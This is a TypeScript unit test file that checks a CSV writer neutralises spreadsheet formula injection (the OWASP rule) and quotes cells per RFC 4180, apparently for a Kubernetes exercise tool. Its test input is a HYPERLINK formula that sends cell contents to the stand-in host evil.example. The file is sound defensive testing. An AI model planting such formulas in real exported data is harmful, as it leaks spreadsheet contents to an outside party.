/**
 * The one CSV writer (src/store/csv.ts): OWASP's rule against formulas in
 * spreadsheets, and the one attempts table both attempt exports share.
 */
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { attemptsCsv } from "../../src/cli/commands/progress.ts";
import { ATTEMPT_CSV_HEADER, neutralizeCell, toCsv } from "../../src/store/csv.ts";

const EVIL = '=HYPERLINK("http://evil.example/?"&A2&B2,"Open")';

describe("the CSV writer", () => {
  it("prefixes a quote to every text cell starting with = + - @ tab or CR", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r"])
      assert.equal(neutralizeCell(`${start}1+1`), `'${start}1+1`, JSON.stringify(start));
    for (const plain of ["Li Lei", "a=b", " =1", "", "'=already text", "李雷"])
      assert.equal(neutralizeCell(plain), plain);
  });

  it("quotes as RFC 4180, writes yes/no and numbers, neutralises text only", () => {
    assert.equal(
      toCsv([
        ["name", "passed", "score", "none"],
        [EVIL, true, -1.5, undefined],
        ["-rm", false, 0, null],
      ]),
      `name,passed,score,none\n"'=HYPERLINK(""http://evil.example/?""&A2&B2,""Open"")",yes,-1.5,\n'-rm,no,0,\n`,
    );
  });

  it("`progress export --format csv` writes the shared attempts table, formulas neutralised", () => {
    const text = attemptsCsv({
      format: "kubelab-progress",
      version: 1,
      exportedAt: "2026-01-01T00:00:00.000Z",
      learners: [{ id: "l1", displayName: EVIL, createdAt: "x", lastSeenAt: "x" }],
      attempts: [
        {
          seq: 1,
          learnerId: "l1",
          exercise: "job/echo",
          passed: true,
          score: 3,
          maxScore: 3,
          durationMs: 10,
          mode: "namespace",
          infrastructureError: false,
          checks: [{ id: "exists", passed: true, points: 3 }],
          at: "2026-01-01T00:00:00.000Z",
        },
      ],
      events: [],
    });
    const [header, row] = text.trimEnd().split("\n");
    assert.equal(header, ATTEMPT_CSV_HEADER.join(","));
    assert.equal(
      row,
      `1,2026-01-01T00:00:00.000Z,l1,"'=HYPERLINK(""http://evil.example/?""&A2&B2,""Open"")",job/echo,yes,3,3,10,namespace,,,no,exists:passed`,
    );
  });
});
